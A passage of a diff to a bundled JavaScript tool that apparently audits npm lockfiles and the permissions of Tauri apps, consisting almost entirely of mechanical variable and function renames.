   if (key3 !== void 0) return key3 === null || isTaken(lock, lock.packages.get(key3), name, meant);
-  return lock.manager !== "yarn" && isRange(meant) && heldIn4(lock).fits(name, meant);
+  return lock.manager !== "yarn" && isRange2(meant) && heldIn4(lock).fits(name, meant);
 }
 var LONGEST7 = 500;
-function isRange(text3) {
+function isRange2(text3) {
   return text3.length <= LONGEST7 && (0, import_valid4.default)(text3, { loose: true }) !== null;
 }
 function isInRange(version, range) {
@@ -23241,7 +23258,7 @@ function isInRange(version, range) {
 }
 function isTaken(lock, found9, name, text3) {
   if (found9 === void 0) return false;
-  if (isClassic(lock) && isRange(text3) && !isInRange(found9.version, text3)) return false;
+  if (isClassic(lock) && isRange2(text3) && !isInRange(found9.version, text3)) return false;
   return isNamed2(found9, name, text3);
 }
 function isNamed2(found9, name, text3) {
@@ -23251,7 +23268,7 @@ function isNamed2(found9, name, text3) {
 }
 function aliasedBy(text3) {
   const [, aliased, range] = /^npm:(@?[^@]+)(@.*)?$/s.exec(text3) ?? [];
-  const isName2 = aliased !== void 0 && (range !== void 0 || !isRange(aliased));
+  const isName2 = aliased !== void 0 && (range !== void 0 || !isRange2(aliased));
   return isName2 ? aliased : void 0;
 }
 function whatLockHas2(name, lock) {
@@ -23265,9 +23282,9 @@ var Held = class {
   constructor({ packages }) {
     for (const each of packages.values())
       for (const name of /* @__PURE__ */ new Set([each.name, ...each.names])) {
-        const known7 = this.#byName.get(name);
-        if (known7 === void 0) this.#byName.set(name, [each]);
-        else known7.push(each);
+        const known8 = this.#byName.get(name);
+        if (known8 === void 0) this.#byName.set(name, [each]);
+        else known8.push(each);
       }
   }
   named(name) {
@@ -23285,9 +23302,9 @@ var Held = class {
 };
 var held2 = /* @__PURE__ */ new WeakMap();
 function heldIn4(lock) {
-  const known7 = held2.get(lock) ?? new Held(lock);
-  held2.set(lock, known7);
-  return known7;
+  const known8 = held2.get(lock) ?? new Held(lock);
+  held2.set(lock, known8);
+  return known8;
 }
 
 // src/readers/npm-packages/settings/overridden.ts
@@ -23400,7 +23417,7 @@ function projectsIn(manifests) {
 function isOfProject(versions, text3, lock) {
   if (versions === void 0) return false;
   if (isOfWorkspace(text3)) return true;
-  return lock.manager !== "pnpm" && isRange(text3) && versions.some((each) => isInRange(each, text3));
+  return lock.manager !== "pnpm" && isRange2(text3) && versions.some((each) => isInRange(each, text3));
 }
 function isInstalled2(kind, { manager, version }) {
   const takesPeers = manager === "bun" || manager === "pnpm" && !version.startsWith("5");
@@ -23437,9 +23454,9 @@ function isSaidBy(lock, key3, text3, between3) {
 }
 var overrides = /* @__PURE__ */ new WeakMap();
 function overridesIn(lock) {
-  const known7 = overrides.get(lock) ?? new Set(lock.settings.flatMap(({ name, value }) => name === "overrides" ? [value] : []));
-  overrides.set(lock, known7);
-  return known7;
+  const known8 = overrides.get(lock) ?? new Set(lock.settings.flatMap(({ name, value }) => name === "overrides" ? [value] : []));
+  overrides.set(lock, known8);
+  return known8;
 }
 function isAnsweredInYarn(lock, key3, text3) {
   const names3 = namesIn4(key3);
@@ -23582,8 +23599,8 @@ function isInstalledAs(location) {
 function isAlias(aliased, locked) {
   const at2 = aliased.indexOf("@", 1);
   const [name, range] = at2 < 0 ? [aliased, "*"] : [aliased.slice(0, at2), aliased.slice(at2 + 1)];
-  const isRange2 = (0, import_valid5.default)(range, { loose: true }) !== null;
-  return locked.name === name && isRange2 && (range === "*" || (0, import_satisfies2.default)(locked.version, range, { loose: true }));
+  const isRange3 = (0, import_valid5.default)(range, { loose: true }) !== null;
+  return locked.name === name && isRange3 && (range === "*" || (0, import_satisfies2.default)(locked.version, range, { loose: true }));
 }
 function isFile(path, locked, { from, lockFolder }) {
   const wanted = joined(from, path);
@@ -23716,11 +23733,11 @@ function manifestsOf3(lock, folder, { files }) {
   return found9;
 }
 function newBundles(lock, { manifest: manifest2 }) {
-  const known7 = lock.packages.get("")?.bundles ?? [];
+  const known8 = lock.packages.get("")?.bundles ?? [];
   return ["bundleDependencies", "bundledDependencies"].flatMap((field3) => {
     const value = member(manifest2, field3);
     const names3 = stringsOf(value).map((each) => each.value);
-    const isNew2 = asBoolean(value) === true ? known7 !== "all" : names3.some((name) => !known7.includes(name));
+    const isNew2 = asBoolean(value) === true ? known8 !== "all" : names3.some((name) => !known8.includes(name));
     if (value === void 0 || !isNew2) return [];
     const message = `${code(field3)} isn't in ${code(baseName(lock.path))}: npm fetches what such packages bring along, pinned by nothing. Commit the lockfile that npm writes.`;
     return [
@@ -23765,11 +23782,11 @@ function isTakenFor(lock, location, text3, found9) {
 function neededArchives(base, head) {
   const before2 = packagesIn2(base);
   const inBase = new Set(before2.map(identityOf4));
-  const known7 = Map.groupBy(before2, ({ name }) => name);
+  const known8 = Map.groupBy(before2, ({ name }) => name);
   const mayRun2 = scriptsMayRun(base, head);
   const added = packagesIn2(head).filter((each) => !inBase.has(identityOf4(each)) && mayRun2(each));
   return added.flatMap((each) => {
-    const old = known7.get(each.name) ?? [];
+    const old = known8.get(each.name) ?? [];
     const need = needOf2(each, old.length === 0 ? "new name" : "known name");
     return need === void 0 ? [] : [need, ...old.flatMap((other) => needOf2(other, "before") ?? [])];
   });
@@ -23968,9 +23985,9 @@ var npmPackages = {
 };
 var surfaces = /* @__PURE__ */ new WeakMap();
 function surfaceOf(project) {
-  const known7 = surfaces.get(project) ?? surfaceIn(project);
-  surfaces.set(project, known7);
-  return known7;
+  const known8 = surfaces.get(project) ?? surfaceIn(project);
+  surfaces.set(project, known8);
+  return known8;
 }
 function surfaceIn(project) {
   const commands2 = commandsOfApp(project);
@@ -24132,17 +24149,17 @@ function appCrates({ location, files, manifest: manifest2 }) {
   ];
 }
 function knowingTauri(crates) {
-  const known7 = new Set(crates.filter(knowsTauri).map(({ manifest: manifest2 }) => manifest2.folder));
-  for (let size = -1; size < known7.size; ) {
-    size = known7.size;
+  const known8 = new Set(crates.filter(knowsTauri).map(({ manifest: manifest2 }) => manifest2.folder));
+  for (let size = -1; size < known8.size; ) {
+    size = known8.size;
     for (const { manifest: manifest2, dependencies } of crates) {
       const reaches2 = dependencies.some(
-        ({ kind, source }) => kind === "normal" && source.kind === "path" && source.folder !== null && known7.has(source.folder)
+        ({ kind, source }) => kind === "normal" && source.kind === "path" && source.folder !== null && known8.has(source.folder)
       );
-      if (reaches2) known7.add(manifest2.folder);
+      if (reaches2) known8.add(manifest2.folder);
     }
   }
-  return crates.filter(({ manifest: manifest2 }) => known7.has(manifest2.folder));
+  return crates.filter(({ manifest: manifest2 }) => known8.has(manifest2.folder));
 }
 function knowsTauri({ dependencies, isMacro }) {
   return isMacro || dependencies.some(({ kind, crate: crate2 }) => kind === "normal" && crate2.startsWith("tauri"));
@@ -24840,8 +24857,8 @@ function bringingMacros(files) {
 // src/tauri/rust/modules.ts
 var read6 = /* @__PURE__ */ new WeakMap();
 function referencesIn(file2) {
-  const known7 = read6.get(file2);
-  if (known7 !== void 0) return known7;
+  const known8 = read6.get(file2);
+  if (known8 !== void 0) return known8;
   const found9 = referencesOf(rustSource(file2));
   read6.set(file2, found9);
   return found9;
@@ -25032,9 +25049,9 @@ var CodeWalk = class {
   /** Whether there is a file to visit at a path. */
   go(path, ownsFolder, requires, from) {
     if (path === null || !this.#project.contents.isFile(path)) return false;
-    const known7 = this.#requires.get(path);
-    const left2 = known7?.filter((each) => requires.some((other) => isSame4(each, other)));
-    if (known7 !== void 0 && left2?.length === known7.length) return true;
+    const known8 = this.#requires.get(path);
+    const left2 = known8?.filter((each) => requires.some((other) => isSame4(each, other)));
+    if (known8 !== void 0 && left2?.length === known8.length) return true;
     if (this.#requires.size >= MOST_FILES) return false;
     this.#requires.set(path, left2 ?? requires);
     this.#todo.push({ path, ownsFolder, requires: left2 ?? requires, from });
@@ -25133,8 +25150,8 @@ function isRustOfApp(path, root) {
 }
 var found3 = /* @__PURE__ */ new WeakMap();
 function rustOfApp(project) {
-  const known7 = found3.get(project);
-  if (known7 !== void 0) return known7;
+  const known8 = found3.get(project);
+  if (known8 !== void 0) return known8;
   const crates = appCrates(project);
   const walks = crates.map((crate2) => walkCode(project, crate2));
   const reached3 = new Map(walks.flatMap(({ files }) => files.map((each) => [each.file.path, each])));
@@ -25159,8 +25176,8 @@ function unreadBeside(file2) {
 // src/tauri/rust/parsed-code.ts
 var parsed2 = /* @__PURE__ */ new WeakMap();
 function parsedCode(file2) {
-  const known7 = parsed2.get(file2);
-  if (known7 !== void 0) return known7;
+  const known8 = parsed2.get(file2);
+  if (known8 !== void 0) return known8;
   const source = rustSource(file2);
   const items = itemsOf2(source);
   const code2 = { source, items, groupsAt: enclosing(source, items) };
@@ -25180,10 +25197,10 @@ function indexCode(files) {
     const { items } = file2;
     byPath2.set(rust.file.path, file2);
     const declare = (kind, name, { from, to }, owner = null) => {
-      const known7 = declared3.get(name);
+      const known8 = declared3.get(name);
       const part = { file: file2, part: { from, to }, kind, owner };
-      if (known7 === void 0) declared3.set(name, [part]);
-      else known7.push(part);
+      if (known8 === void 0) declared3.set(name, [part]);
+      else known8.push(part);
     };
     for (const { name, keyword, parameters, body, owner } of items.functions)
       declare("function", name, { from: keyword, to: (body ?? parameters).to }, owner);
@@ -25196,9 +25213,9 @@ function indexCode(files) {
   const sizeOf5 = (files2) => [...files2].reduce((sum, { source }) => sum + source.tokens.length, 0);
   const size = sizeOf5(byPath2.values());
   const filesWith = (name) => {
-    const known7 = holding.get(name) ?? [...byPath2.values()].filter(({ rust }) => rust.file.text.includes(name));
-    holding.set(name, known7);
-    return known7;
+    const known8 = holding.get(name) ?? [...byPath2.values()].filter(({ rust }) => rust.file.text.includes(name));
+    holding.set(name, known8);
+    return known8;
   };
   return {
     file: (path) => byPath2.get(path),
@@ -25268,9 +25285,9 @@ function mentionsOf(project, words3) {
 function presentIn(file2, words3) {
   const ofWords = present.get(words3) ?? /* @__PURE__ */ new WeakMap();
   present.set(words3, ofWords);
-  const known7 = ofWords.get(file2) ?? words3.filter((word2) => file2.text.includes(word2));
-  ofWords.set(file2, known7);
-  return known7;
+  const known8 = ofWords.get(file2) ?? words3.filter((word2) => file2.text.includes(word2));
+  ofWords.set(file2, known8);
+  return known8;
 }
 var present = /* @__PURE__ */ new WeakMap();
 function readCode(rust) {
@@ -25324,13 +25341,13 @@ var GENERATING = "alloc anyhow autocfg bindgen built cc cfg_aliases chrono cmake
   " "
 );
 function knownCrates(project, folder) {
-  const known7 = new Set(GENERATING);
+  const known8 = new Set(GENERATING);
   for (const { name, crate: crate2, source } of builtWith2(project, folder)) {
     const isKnown3 = GENERATING.includes(inCode(crate2)) && source.kind === "registry";
-    if (isKnown3) known7.add(inCode(name));
-    else known7.delete(inCode(name));
+    if (isKnown3) known8.add(inCode(name));
+    else known8.delete(inCode(name));
   }
-  return known7;
+  return known8;
 }
 function contentOfCrate(project, { rust }, name) {
   const used = builtWith2(project, rust.crate).filter((each) => inCode(each.name) === name);
@@ -25998,10 +26015,10 @@ function buildMentions({ source }, names3) {
   for (const [index, token2] of tokens.entries()) {
     if (token2.kind !== "word" || isMark(tokens[index + 1], "::")) continue;
     const path = pathTo(tokens, index);
-    const known7 = names3(path)?.split("::") ?? path;
-    const isRun = known7.length === 1 && names3(path) !== null && RUNS.has(known7[0] ?? "");
+    const known8 = names3(path)?.split("::") ?? path;
+    const isRun = known8.length === 1 && names3(path) !== null && RUNS.has(known8[0] ?? "");
     const isMethod2 = METHODS.has(token2.text) && (isMark(tokens[index - 1], ".") || path.length > 1);
-    const isDeclaring = isMethod2 || known7.some((name) => TYPES.has(name));
+    const isDeclaring = isMethod2 || known8.some((name) => TYPES.has(name));
     if (!isRun && !isDeclaring || isImport(tokens, index)) continue;
     if (isDeclaring) declaring2.push(index);
     else if (isOpen(tokens[index + 1], "(")) calls.push(index);
@@ -26098,8 +26115,8 @@ function ownFeatures(project) {
 
 // src/tauri/rust/crates-beside.ts
 function foldersBeside(project, { items }, name) {
-  const crates = known3.get(project) ?? cratesBeside(project);
-  known3.set(project, crates);
+  const crates = known4.get(project) ?? cratesBeside(project);
+  known4.set(project, crates);
   if (crates.size === 0) return /* @__PURE__ */ new Set();
   const imported2 = items.imports.filter(({ as }) => as === name || as === "*");
   const found9 = [name, ...imported2.map(({ path }) => path[0] ?? "")].flatMap(
@@ -26107,7 +26124,7 @@ function foldersBeside(project, { items }, name) {
   );
   return new Set(found9.map(({ manifest: manifest2 }) => manifest2.folder));
 }
-var known3 = /* @__PURE__ */ new WeakMap();
+var known4 = /* @__PURE__ */ new WeakMap();
 function cratesBeside(project) {
   const { location, files } = project;
   const crates = localCrates(cargoWorkspace(location.root, files), files);
@@ -26162,9 +26179,9 @@ function scriptsOf(project) {
   return [...walkFrom(project, { folder: location.root, manifest: manifest2 }, script).named];
 }
 function readByScripts(project) {
-  const known7 = namedByScripts.get(project) ?? contentsOfScripts(project);
-  namedByScripts.set(project, known7);
-  return known7;
+  const known8 = namedByScripts.get(project) ?? contentsOfScripts(project);
+  namedByScripts.set(project, known8);
+  return known8;
 }
 var namedByScripts = /* @__PURE__ */ new WeakMap();
 function contentsOfScripts(project) {
@@ -26342,10 +26359,10 @@ function isTraitItem({ kind, file: file2, part }) {
 // src/tauri/rust/slice-related.ts
 var found4 = /* @__PURE__ */ new WeakMap();
 function foundOnce(index, question, name, find3) {
-  const known7 = found4.get(index) ?? /* @__PURE__ */ new Map();
-  found4.set(index, known7);
-  const parts = known7.get(`${question} ${name}`) ?? find3();
-  known7.set(`${question} ${name}`, parts);
+  const known8 = found4.get(index) ?? /* @__PURE__ */ new Map();
+  found4.set(index, known8);
+  const parts = known8.get(`${question} ${name}`) ?? find3();
+  known8.set(`${question} ${name}`, parts);
   return parts;
 }
 var CHANGES_STATIC = /^(?:set|lock|write|store|swap|replace|insert|push|extend|with|with_borrow_mut|get_or_init|get_or_try_init|get_mut|try_lock|try_write|init|initialize|fetch_\w+)$/;
@@ -26500,13 +26517,13 @@ var TOLD = /* @__PURE__ */ new Set(["word", "text", "number"]);
 
 // src/tauri/rust/unnamed.ts
 function unnamed({ file: file2, part }, work, isOwn4) {
-  const known7 = /* @__PURE__ */ new Map();
+  const known8 = /* @__PURE__ */ new Map();
   return written2({ file: file2, isOwn: isOwn4 }, part.from, part.to, (at2, name) => {
-    const remembered2 = known7.get(name);
+    const remembered2 = known8.get(name);
     if (remembered2 !== void 0) return remembered2;
     work.spend(at2);
     const found9 = declared(file2, at2, name);
-    known7.set(name, found9);
+    known8.set(name, found9);
     return found9;
   });
 }
@@ -26990,9 +27007,9 @@ function saidBy(line) {
   const text3 = line.trim();
   const handed = /^cargo::?rustc-env=([^=]*)/.exec(text3)?.[1];
   if (handed !== void 0) return DECIDING2.test(handed) ? `hands ${code(handed)} to rustc` : void 0;
-  const known7 = /^(?:[^{]|\{\{)*/.exec(text3)?.[0] ?? "";
-  const isFilled = known7.length < text3.length;
-  return isFilled && HANDS_OVER2.some((start) => start.startsWith(known7)) ? COMPUTED3 : void 0;
+  const known8 = /^(?:[^{]|\{\{)*/.exec(text3)?.[0] ?? "";
+  const isFilled = known8.length < text3.length;
+  return isFilled && HANDS_OVER2.some((start) => start.startsWith(known8)) ? COMPUTED3 : void 0;
 }
 function isOnlyFlushed({ source: { tokens } }, next2) {
   return isMark(tokens[next2], ".") && tokens[next2 + 1]?.text === "flush";
@@ -27299,7 +27316,7 @@ var FILES5 = [
     why: "Read whole: who may call what, with which scope.",
     samples: ["src-tauri/capabilities/main.json", "src-tauri/capabilities/desktop/main.toml"],
     knownAs: ["capabilities"],
-    is: ofApp((path, { root }) => below(root, path)?.startsWith("capabilities/") === true),
+    is: inApp((path, { root }) => below(root, path)?.startsWith("capabilities/") === true),
     wants: isCapabilityFile
   },
   {
@@ -27319,7 +27336,7 @@ var FILES5 = [
     why: "Read for the commands, permissions and capabilities that it declares; what else it runs isn't judged yet.",
     samples: ["src-tauri/build.rs"],
     knownAs: ["build.rs"],
-    is: ofApp((path, { root }) => below(root, path) === "build.rs"),
+    is: inApp((path, { root }) => below(root, path) === "build.rs"),
     wants: mayBeBuildScript
   },
   {
@@ -27329,7 +27346,7 @@ var FILES5 = [
     why: "Rust code is read for what it adds to capabilities, scopes and schemes; what its commands do isn't judged yet.",
     samples: ["src-tauri/src/lib.rs", "src-tauri/src/commands/notes.rs"],
     knownAs: ["src", "main.rs", "lib.rs"],
-    is: ofApp((path, { root }) => isRustOfApp(path, root)),
+    is: inApp((path, { root }) => isRustOfApp(path, root)),
     wants: (path, { root }) => isRustOfApp(path, root)
   }
 ];
@@ -27367,8 +27384,8 @@ var NO_SCRIPT = {
 };
 var read7 = /* @__PURE__ */ new WeakMap();
 function readBuildScript(project, file2) {
-  const known7 = read7.get(project);
-  if (known7 !== void 0) return known7;
+  const known8 = read7.get(project);
+  if (known8 !== void 0) return known8;
   const result2 = new ScriptReader(project, file2).read();
   read7.set(project, result2);
   return result2;
@@ -27576,8 +27593,8 @@ var Determiniser = class {
     this.#work.spend(reached3.length);
     const name = this.#reached.numberOf(reached3);
     const byName = this.#found.get(before2) ?? /* @__PURE__ */ new Map();
-    const known7 = byName.get(name);
-    if (known7 !== void 0) return known7;
+    const known8 = byName.get(name);
+    if (known8 !== void 0) return known8;
     const states = this.#closed(reached3);
     const isAsked2 = states.some((state) => this.#nfa.states[state]?.looks.length !== 0);
     const number = this.#sets.numberOf([isAsked2 ? before2 : NOT_ASKED2, ...states]);
@@ -27751,8 +27768,8 @@ function withFewestClasses({ alphabet, next: next2, accepting }, work) {
   };
   const kept = [];
   const numbers = Int32Array.from({ length: size }, (_3, its) => {
-    const known7 = kept.findIndex((other) => isSame10(other, its));
-    return known7 >= 0 ? known7 : kept.push(its) - 1;
+    const known8 = kept.findIndex((other) => isSame10(other, its));
+    return known8 >= 0 ? known8 : kept.push(its) - 1;
   });
   if (kept.length === size) return { alphabet, next: next2, accepting };
   const rows = new Int32Array(kept.length * accepting.length);
@@ -27861,8 +27878,8 @@ var Numbers = class {
     this.#keyOf = keyOf10;
   }
   of(thing) {
-    const known7 = this.#known.get(thing);
-    if (known7 !== void 0) return known7;
+    const known8 = this.#known.get(thing);
+    if (known8 !== void 0) return known8;
     const key3 = this.#keyOf(thing);
     const number = this.#known.get(key3) ?? this.all.push(thing) - 1;
     this.#known.set(thing, number).set(key3, number);
@@ -27878,10 +27895,10 @@ function automatonOf(expression, work) {
   return determinised(nfaOf(expression, work), work);
 }
 function ownLanguage(expression) {
-  let known7;
+  let known8;
   const made2 = () => {
-    known7 ??= languageOf(expression, new Work(MOST_FOR_OWN));
-    return known7;
+    known8 ??= languageOf(expression, new Work(MOST_FOR_OWN));
+    return known8;
   };
   return {
     get alphabet() {
@@ -27964,8 +27981,8 @@ function expressionOf(token2, options) {
 var SLASH3 = oneOf("/");
 var DOT = oneOf(".");
 function inEitherCase(text3) {
-  const known7 = EITHER_CASE.get(text3);
-  if (known7 !== void 0) return known7;
+  const known8 = EITHER_CASE.get(text3);
+  if (known8 !== void 0) return known8;
   const made2 = character(inBothCases(oneOf(text3)));
   if (text3 <= "") EITHER_CASE.set(text3, made2);
   return made2;
@@ -28355,9 +28372,9 @@ var Reach = class {
   at(file2, index) {
     const { own, holder } = this.#step(file2, index);
     if (holder === null || this.#isStraight(holder)) return own;
-    const known7 = this.#known.get(holder.name) ?? this.#conditionsOf(holder);
-    this.#known.set(holder.name, known7);
-    return [...own, ...known7];
+    const known8 = this.#known.get(holder.name) ?? this.#conditionsOf(holder);
+    this.#known.set(holder.name, known8);
+    return [...own, ...known8];
   }
   #step(file2, index) {
     const groups3 = file2.groupsAt(index);
@@ -28370,8 +28387,8 @@ var Reach = class {
   }
   /** Where a function is called. */
   #calls({ name, file: file2, called: called3 }) {
-    const known7 = this.#steps.get(name);
-    if (known7 !== void 0) return known7;
+    const known8 = this.#steps.get(name);
+    if (known8 !== void 0) return known8;
     const calls = mentionsIn2(this.#code, called3.name).filter((each) => mayCall(called3, file2, each));
     const steps = calls.map((each) => this.#step(each.file, each.index));
     this.#steps.set(name, steps);
@@ -28535,11 +28552,11 @@ var Arguments = class {
   /** `Target::Windows`, or a list of such names. */
   platforms([only, ...others]) {
     const items = only?.kind === "list" ? only.items : only === void 0 ? [] : [only];
-    const known7 = items.map((item) => {
+    const known8 = items.map((item) => {
       const [type, name] = item.kind === "name" ? item.path.slice(-2) : [];
       return type === "Target" ? PLATFORMS.find((each) => each.toLowerCase() === name?.toLowerCase()) : void 0;
     });
-    return known7.length > 0 && others.length === 0 && known7.every((each) => each !== void 0) ? platformSet(...known7) : this.#computed(EVERY_PLATFORM);
+    return known8.length > 0 && others.length === 0 && known8.every((each) => each !== void 0) ? platformSet(...known8) : this.#computed(EVERY_PLATFORM);
   }
   /** A permission with a scope as lists of texts: `permission_scoped("fs:scope", vec!["/a"], vec![])`. */
   scoped([id, allow2, deny, ...others]) {
@@ -28630,10 +28647,10 @@ function typesIn({ source: { tokens } }, part) {
   const names3 = tokens.slice(part.from, part.to).flatMap(({ kind, text: text3 }) => kind === "word" && /^[A-Z]/.test(text3) ? [text3] : []);
   return names3.slice(0, 1);
 }
-var known4 = /* @__PURE__ */ new WeakMap();
+var known5 = /* @__PURE__ */ new WeakMap();
 function ownersOf(project, word2) {
-  const words3 = known4.get(project) ?? /* @__PURE__ */ new Map();
-  known4.set(project, words3);
+  const words3 = known5.get(project) ?? /* @__PURE__ */ new Map();
+  known5.set(project, words3);
   const found9 = words3.get(word2) ?? findOwners(project, word2);
   words3.set(word2, found9);
   return found9;
@@ -28823,8 +28840,8 @@ var OF_SCOPES = [
 ];
 var found5 = /* @__PURE__ */ new WeakMap();
 function rustCapabilities(project) {
-  const known7 = found5.get(project);
-  if (known7 !== void 0) return known7;
+  const known8 = found5.get(project);
+  if (known8 !== void 0) return known8;
   const result2 = new CapabilitiesInCode(project).read();
   found5.set(project, result2);
   return result2;
@@ -29200,12 +29217,12 @@ function knownVersions(key3) {
   return rows;
 }
 function manifest(folded5) {
-  let known7 = manifestOf2.get(folded5);
-  if (known7 === void 0) {
-    known7 = catalogued(unfolded(folded5));
-    manifestOf2.set(folded5, known7);
+  let known8 = manifestOf2.get(folded5);
+  if (known8 === void 0) {
+    known8 = catalogued(unfolded(folded5));
+    manifestOf2.set(folded5, known8);
   }
-  return known7;
+  return known8;
 }
 function catalogued({ c: c6, demand, def, p: p4, s: s5 }) {
   const sets = new Map(Object.entries(s5 ?? {}));
@@ -29405,13 +29422,13 @@ function manifestsOf4(project, script) {
     inlined2.set(name, { ...read9.manifest, default: read9.manifest.default ?? given2 });
   }
   const whole2 = ([key3, manifest2]) => [key3, { how: "known", manifest: manifest2 }];
-  const known7 = new Map([["", app.manifest], ...inlined2].map(whole2));
+  const known8 = new Map([["", app.manifest], ...inlined2].map(whole2));
   return {
     of(key3) {
-      const before2 = known7.get(key3);
+      const before2 = known8.get(key3);
       if (before2 !== void 0) return before2;
       const answer = find(key3, project, inTree);
-      known7.set(key3, answer);
+      known8.set(key3, answer);
       return answer;
     },
     isKey: (key3) => inTree.has(key3) || inlined2.has(key3) || isCatalogued(key3) || project.locked(crateOf(key3)) !== void 0,
@@ -29575,10 +29592,10 @@ var ReferenceGaps = class {
     const message = `What ${code(reference)} allows is not known: the permissions of the plugin ${code(key3)} are neither in this repository nor among those that are known. Its name was taken at its word.`;
     this.#say("unknown-plugin", key3, reference, message);
   }
-  assumedRelease(key3, reference, known7) {
-    const isRelease2 = known7.instead === "release" || known7.instead === "newest";
+  assumedRelease(key3, reference, known8) {
+    const isRelease2 = known8.instead === "release" || known8.instead === "newest";
     const kind = isRelease2 ? "assumed-version" : "unknown-plugin";
-    this.#say(kind, key3, reference, assumption(crateOf(key3), known7), !isRelease2);
+    this.#say(kind, key3, reference, assumption(crateOf(key3), known8), !isRelease2);
   }
   unknownPermission(key3, reference, { from, version }) {
     const message = `${code(reference)} is no permission of ${code(key3)} ${from}; whether ${version} has it is not known. Its name was taken at its word.`;
@@ -29641,21 +29658,21 @@ var Expansion = class {
     if (this.#isTooLarge(position)) return;
     const [key3, id] = split2(reference, position.home, this.#manifests);
     const target = { reference, key: key3, id };
-    const known7 = this.#manifests.of(key3);
-    if (known7.how === "unknown") {
+    const known8 = this.#manifests.of(key3);
+    if (known8.how === "unknown") {
       this.#unknown.unknownPlugin(key3, reference);
       this.#infer(target, position, true);
       return;
     }
-    if (known7.how === "assumed") this.#unknown.assumedRelease(key3, reference, known7);
+    if (known8.how === "assumed") this.#unknown.assumedRelease(key3, reference, known8);
     if (key3 === "" && id === "default" && !this.#manifests.appHasManifest) {
       this.#unknown.refused(key3, reference, "is not declared by the app");
       return;
     }
-    const { manifest: manifest2 } = known7;
+    const { manifest: manifest2 } = known8;
     const isInSet = position.above.length > 0;
     const members2 = id === "default" ? manifest2.default ?? [] : membersOf3(manifest2, id, isInSet);
-    if (members2 === void 0) this.#addPermission(target, known7, position);
+    if (members2 === void 0) this.#addPermission(target, known8, position);
     else this.#expandSet(target, members2, position);
   }
   #isTooLarge({ above }) {
@@ -29678,15 +29695,15 @@ var Expansion = class {
       this.#expand(name, { home: key3, above: [...above, path], steps: [...steps, step] });
     }
   }
-  #addPermission(target, known7, position) {
+  #addPermission(target, known8, position) {
     const { reference, key: key3, id } = target;
-    const permission2 = known7.manifest.permission(id) ?? this.#wildcard(key3, id, known7.manifest);
+    const permission2 = known8.manifest.permission(id) ?? this.#wildcard(key3, id, known8.manifest);
     if (permission2 !== void 0) {
       this.leaves.push({ key: key3, id, permission: permission2, inferred: false, steps: position.steps });
-    } else if (known7.how === "in-tree" && /^(?:allow|deny)-[^*]+$/.test(id)) {
+    } else if (known8.how === "in-tree" && /^(?:allow|deny)-[^*]+$/.test(id)) {
       this.#infer(target, position, false);
-    } else if (known7.how === "assumed") {
-      this.#unknown.unknownPermission(key3, reference, known7);
+    } else if (known8.how === "assumed") {
+      this.#unknown.unknownPermission(key3, reference, known8);
       this.#infer(target, position, true);
     } else {
       const why = key3 === "" ? "is not declared by the app" : `is none of the plugin ${code(key3)} at this version`;
@@ -29732,8 +29749,8 @@ function pluginPermissions(project, manifests, grants) {
   });
 }
 function defaultOf(key3, manifests) {
-  const known7 = manifests.of(key3);
-  if (known7.how === "unknown" || known7.manifest.default === void 0) return { byDefault: null };
+  const known8 = manifests.of(key3);
+  if (known8.how === "unknown" || known8.manifest.default === void 0) return { byDefault: null };
   const at2 = { path: "", line: 1, column: 1, endLine: 1 };
   const { leaves } = expanded2({ id: `${key3}:default`, at: at2, scope: null }, manifests);
   const own = leaves.filter((leaf) => leaf.key === key3).map(({ permission: permission2 }) => permission2);
@@ -29853,10 +29870,10 @@ function scopeOf4(entry, { scope }, key3) {
   };
 }
 function ownEntry(form, entry, permissionAt) {
-  const known7 = ownEntries.get(entry) ?? /* @__PURE__ */ new Map();
-  ownEntries.set(entry, known7);
-  const found9 = known7.get(form) ?? scopeEntry(form, entry.value, entry.at ?? permissionAt);
-  known7.set(form, found9);
+  const known8 = ownEntries.get(entry) ?? /* @__PURE__ */ new Map();
+  ownEntries.set(entry, known8);
+  const found9 = known8.get(form) ?? scopeEntry(form, entry.value, entry.at ?? permissionAt);
+  known8.set(form, found9);
   return found9;
 }
 var ownEntries = /* @__PURE__ */ new WeakMap();
@@ -29923,8 +29940,8 @@ function commandsOf(names3, key3, manifests) {
   return names3.flatMap((name) => {
     if (name !== "*") return [{ name, at: null }];
     if (!manifests.wildcards) return [];
-    const known7 = manifests.of(key3);
-    const manifest2 = known7.how === "unknown" ? void 0 : known7.manifest;
+    const known8 = manifests.of(key3);
+    const manifest2 = known8.how === "unknown" ? void 0 : known8.manifest;
     const declared3 = [...manifest2?.commands ?? [], ...manifest2?.named ?? []].filter(
       (command) => command.name !== "*"
     );
@@ -30065,8 +30082,8 @@ function usesOf(project, name) {
 // src/tauri/own-schemes.ts
 var REGISTERS = ["register_asynchronous_uri_scheme_protocol", "register_uri_scheme_protocol"];
 function ownSchemes(project) {
-  const known7 = found6.get(project);
-  if (known7 !== void 0) return known7;
+  const known8 = found6.get(project);
+  if (known8 !== void 0) return known8;
   const schemes = codeCalls(project, REGISTERS).map((call2) => ({
     name: call2.arguments[0]?.text ?? null,
     call: call2
@@ -30302,14 +30319,14 @@ function readAllowlist(config) {
   const root = pick(config, "tauri", "allowlist");
   const gaps = [];
   const values = /* @__PURE__ */ new Map();
-  const note4 = (name, known7, { key: key3, value }) => {
-    if (known7 && isRightFor(name, value)) values.set(name, value);
+  const note4 = (name, known8, { key: key3, value }) => {
+    if (known8 && isRightFor(name, value)) values.set(name, value);
     else
       gaps.push(
         gapAt(key3, {
           kind: "does-not-build",
           rests: wordsOf(name, plain(value)),
-          message: refusal(name, known7)
+          message: refusal(name, known8)
         })
       );
   };
@@ -30353,8 +30370,8 @@ function isRightFor(name, { kind }) {
   }
   return kind === "boolean" || kind === "string" && name === "shell.open";
 }
-function refusal(name, known7) {
-  const what = known7 ? "has a value of the wrong type" : "is no option that Tauri 1 knows";
+function refusal(name, known8) {
+  const what = known8 ? "has a value of the wrong type" : "is no option that Tauri 1 knows";
   return `${code(name)} in the allowlist ${what}: the app doesn't build. It was read as granting nothing.`;
 }
 
@@ -30669,9 +30686,9 @@ function namesWithScopes(project) {
   const leading = new RegExp(["\\bscope\\b", ...LEADING2.keys()].join("|"));
   const all = rustOfApp(project).files;
   const found9 = /* @__PURE__ */ new Set();
-  const known7 = /* @__PURE__ */ new Set();
+  const known8 = /* @__PURE__ */ new Set();
   const declare = (rust) => {
-    known7.add(rust.file.path);
+    known8.add(rust.file.path);
     const { items } = readCode(rust);
     const free = items.functions.flatMap(({ name, owner }) => owner === null ? name : []);
     const module = baseName(rust.file.path).replace(/\.rs$/, "");
